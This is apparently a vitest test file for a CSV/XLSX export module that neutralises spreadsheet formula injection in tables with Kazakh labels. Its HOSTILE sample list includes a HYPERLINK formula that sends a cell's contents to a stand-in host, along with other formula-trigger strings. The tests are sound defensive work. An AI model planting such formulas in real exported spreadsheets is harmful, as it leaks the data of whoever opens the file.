import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { type TableFile, neutraliseFormula, tableToCsv, tableToXlsx } from './safe-table-file.ts';

const HOSTILE = ['=HYPERLINK("http://example.test/?d="&A1,"click")', '+1', '-2+3', '@SUM(A1:A2)', '\tx', '\rx', '  =1+1', '＝1+1'];
const KAZAKH = 'әғқңөұүһі ӘҒҚҢӨҰҮҺІ';

const table: TableFile = {
  columns: [
    { label: 'Қанау түрі', code: 'vic_ExploitationType' },
    { label: 'Саны', code: 'n' },
  ],
  withCodeRow: true,
  rows: [...HOSTILE.map((h, i) => [h, i]), [KAZAKH, -2], ['plain text', 3.5], ['<11', null]],
  notes: ['<11: 1–10 адам', '=not a formula either'],
  sheetName: 'Жәбірленушілер: [2024]',
};

describe('neutraliseFormula', () => {
  it('prefixes a single quote to text a spreadsheet would run, and leaves other text alone', () => {
    for (const h of HOSTILE) expect(neutraliseFormula(h)).toBe(`'${h}`);
    for (const ok of ['plain', '<11', 'x', KAZAKH, '1-2', 'a=b', "'already"]) expect(neutraliseFormula(ok)).toBe(ok);
  });
});

describe('CSV', () => {
  const csv = tableToCsv(table);
  const rows: string[][] = parse(csv, { bom: true, relax_column_count: true });

  it('starts with a UTF-8 byte-order mark and keeps Kazakh letters', () => {
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rows[2 + HOSTILE.length]?.[0]).toBe(KAZAKH);
  });

  it('writes the label row and the code row', () => {
    expect(rows[0]).toEqual(['Қанау түрі', 'Саны']);
    expect(rows[1]).toEqual(['vic_ExploitationType', 'n']);
  });

  it('reads back every hostile text neutralised, and numbers as plain numbers', () => {
    HOSTILE.forEach((h, i) => {
      expect(rows[2 + i]).toEqual([`'${h}`, String(i)]);
    });
    expect(rows[2 + HOSTILE.length]?.[1]).toBe('-2');
    expect(rows[3 + HOSTILE.length]?.[1]).toBe('3.5');
    expect(rows.at(-1)).toEqual(["'=not a formula either"]);
  });

  it('leaves the code row out unless asked', () => {
    const plain: string[][] = parse(tableToCsv({ ...table, withCodeRow: false }), { bom: true, relax_column_count: true });
    expect(plain[1]?.[0]).toBe(`'${HOSTILE[0]}`);
  });
});

describe('XLSX', () => {
  it('reads back text neutralised as text, numbers as numbers, Kazakh letters intact', async () => {
    const workbook = new ExcelJS.Workbook();
    const file = await tableToXlsx(table);
    // exceljs types its input as its own ArrayBuffer-based Buffer; a Node Buffer is what it reads.
    await workbook.xlsx.load(file as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no worksheet');
    expect(sheet.name).toBe('Жәбірленушілер   2024');
    expect(sheet.getRow(1).values).toEqual([undefined, 'Қанау түрі', 'Саны']);
    expect(sheet.getRow(2).values).toEqual([undefined, 'vic_ExploitationType', 'n']);
    HOSTILE.forEach((h, i) => {
      const cell = sheet.getRow(3 + i).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return as a line feed: the text changes there, never its leading quote.
      expect(cell.value).toBe(`'${h.replace(/\r/g, '\n')}`);
      expect(sheet.getRow(3 + i).getCell(2).value).toBe(i);
    });
    const kazakh = sheet.getRow(3 + HOSTILE.length);
    expect(kazakh.getCell(1).value).toBe(KAZAKH);
    expect(kazakh.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(kazakh.getCell(2).value).toBe(-2);
    expect(sheet.getRow(5 + HOSTILE.length).getCell(2).value).toBe(null);
    // No cell anywhere in the file is a formula.
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('refuses a row that does not fit the columns, and a number that is not finite', async () => {
    expect(() => tableToCsv({ ...table, rows: [['a']] })).toThrow(/Row 1/);
    await expect(tableToXlsx({ ...table, rows: [['a', Number.NaN]] })).rejects.toThrow(/not a number/);
  });
});
